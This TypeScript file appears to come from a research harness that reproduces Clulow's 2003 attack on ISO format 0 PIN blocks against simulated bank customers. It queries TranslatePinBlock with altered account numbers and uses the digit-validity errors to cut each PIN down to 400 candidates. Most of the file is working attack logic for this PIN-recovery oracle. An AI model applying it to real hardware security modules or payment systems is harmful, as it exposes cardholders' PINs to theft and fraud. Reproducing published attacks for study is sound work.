/**
 * Clulow's account-number change. Format 0 XORs the account number onto the PIN from its third digit
 * on. A device that looks at the digits of an extracted PIN refuses when a wrong account number makes
 * one of them a letter: so each of these digits is known but for its lowest bit.
 */
import { attack, type Scene } from '../attack.js';

/** Index of the account digit (of the twelve in the block) that lies on PIN digits three and four. */
const POSITIONS = [2, 3];
const PIN_CODES = ['PIN_DIGITS_INVALID', 'PIN_BLOCK_INVALID'];
/**
 * Accounts with an 8 in these places, where every XOR from 8 to 15 is at hand. Other accounts are first
 * translated to such a number, or tell a little less.
 */
const BANK = '51088';
const VICTIMS = { small: 3, full: 100 } as const;

export const digitCheck = attack({
  name: 'digit-check',
  title: 'a wrong account number and a check of digits tell the PIN but for 400 candidates',
  source: 'Clulow 2003',
  roles: ['production'],
  note: 'two digits of four are learnt but for one bit each: 400 of 10,000 PINs are left',
  async run(scene) {
    const { lab, attacker, options, say } = scene;
    const pvk = lab.key('P', { usage: 'PGK' });
    const key = lab.pinKey();
    const tableId = lab.table();
    const calls: number[] = [];
    let right = 0;
    const many = VICTIMS[options.effort];
    for (let n = 1; n <= many; n++) {
      const { pan } = lab.customer(n, { pvk, tableId }, BANK);
      const pin = lab.exposePin(pan);
      const before = attacker.calls;
      const pairs: (readonly number[])[] = [];
      const pinBlock = lab.typed({ pin, pan, key });
      for (const position of POSITIONS) {
        pairs.push(await pairOf(scene, { pan, pinBlock, key, position }));
      }
      calls.push(attacker.calls - before);
      if (pairs.every((pair, i) => pair.includes(Number(pin[POSITIONS[i]!])))) right += 1;
    }
    if (right < many) attacker.nothingLearnt();
    say(`TranslatePinBlock with wrong account numbers, for ${many} customers`);
    return {
      obtained: '400 PINs are left of 10,000',
      verified: right === many,
      share: right / many,
      calls,
      figures: { published: '4.8 calls, 400 PINs left', candidatesLeft: 400 },
    };
  },
});

interface Target {
  readonly pan: string;
  readonly pinBlock: Uint8Array;
  readonly key: string;
  readonly position: number;
}

/** The two digits that the PIN digit can be: greedy over the XORs that an account digit allows. */
async function pairOf({ attacker }: Scene, target: Target): Promise<readonly number[]> {
  const { pan, pinBlock, key, position } = target;
  // The block has the twelve right-most digits before the check digit, from its fifth nibble on.
  const at = pan.length - 13 + position - 2;
  const real = Number(pan[at]);
  let left = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9];
  while (left.length > 2) {
    const splits = [...Array(10).keys()]
      .filter((digit) => digit !== real)
      .map((digit) => ({ digit, fine: left.filter((one) => (one ^ real ^ digit) <= 9) }))
      .filter(({ fine }) => fine.length > 0 && fine.length < left.length)
      .sort((a, b) => balance(a.fine, left) - balance(b.fine, left));
    const best = splits[0];
    if (best === undefined) break;
    const wrong = `${pan.slice(0, at)}${best.digit}${pan.slice(at + 1)}`;
    const [fine] = await attacker.ask(
      'TranslatePinBlock',
      [{ pinBlock, pan: wrong, from: { key, format: 'iso0' }, to: { key, format: 'iso0' } }],
      PIN_CODES,
    );
    left = left.filter((one) => best.fine.includes(one) === fine);
    if (left.length === 0) attacker.nothingLearnt();
  }
  return left;
}

function balance(part: readonly number[], whole: readonly number[]): number {
  return Math.abs(part.length - whole.length / 2);
}
